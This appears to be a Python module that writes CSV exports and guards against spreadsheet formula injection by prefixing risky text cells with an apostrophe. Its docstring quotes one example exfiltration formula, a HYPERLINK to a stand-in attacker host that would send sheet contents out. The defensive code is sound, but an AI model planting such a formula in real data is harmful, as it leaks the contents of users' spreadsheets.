"""Every CSV the service writes (the admin's export, a receipt, the public removal
lists, an import's rejects) goes through here, a line at a time, ready to stream.

Spreadsheets run a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula: a Flickr username or an email address like
`=HYPERLINK("https://evil.example/?"&A2,"…")` would send the other cells of the
sheet to a stranger once a maintainer clicks it. Such a text cell gets a `'` in
front (OWASP's rule for CSV injection), which spreadsheets show as text. Numbers
are written as they are: only text can carry a formula, and ours are never negative.
"""

import csv
from _csv import Writer
from collections.abc import Iterable, Iterator, Sequence
from typing import Final

FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")


class _Line:
    """csv.writer's file: hands back the line it is given instead of keeping it."""

    def write(self, line: str) -> str:
        return line


def cell(value: object) -> object:
    """`value` as it may go into a CSV cell: a text that a spreadsheet would run, defused."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def _writer() -> Writer:
    # RFC 4180: fields quoted only where needed, lines ending in \r\n (csv's defaults).
    # One per caller: a writer builds each line in a buffer of its own.
    return csv.writer(_Line())


def csv_line(row: Iterable[object]) -> str:
    """One row as one CSV line, ending in \\r\\n."""
    return str(_writer().writerow([cell(value) for value in row]))


def csv_lines(
    rows: Iterable[Iterable[object]], *, header: Sequence[str] | None = None
) -> Iterator[str]:
    """The header's line, then each row's, one at a time (for a StreamingHttpResponse)."""
    writer = _writer()
    if header is not None:
        yield str(writer.writerow([cell(value) for value in header]))
    for row in rows:
        yield str(writer.writerow([cell(value) for value in row]))


def text_cell(value: str) -> str:
    """One text cell as it stands in a line, for writers that format ids and dates
    themselves (the removal lists, millions of rows): defused, then quoted if needed."""
    value = str(cell(value))
    if any(char in value for char in ',"\r\n'):
        return '"' + value.replace('"', '""') + '"'
    return value
